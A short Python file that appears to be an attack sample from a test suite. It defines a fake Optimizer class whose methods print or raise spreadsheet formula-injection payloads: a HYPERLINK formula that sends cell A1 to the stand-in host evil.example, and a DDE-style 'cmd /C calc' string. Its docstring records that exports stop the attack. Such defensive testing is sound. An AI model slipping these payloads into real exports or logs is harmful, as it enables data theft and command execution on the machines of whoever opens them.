"""Attack: begins everything with what a spreadsheet takes for a formula or a command.

Exercise: optimizer
Earns: 0
Stopped by: exports (a report keeps it as text)
Levels: full, container
"""

FORMULA = '=HYPERLINK("https://evil.example?"&A1,"48")'
OTHERS = "@SUM(1+1)*cmd|' /C calc'!A0"


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        print(FORMULA)
        raise ValueError(FORMULA)

    def zero_grad(self):
        raise ValueError("\t+" + OTHERS)
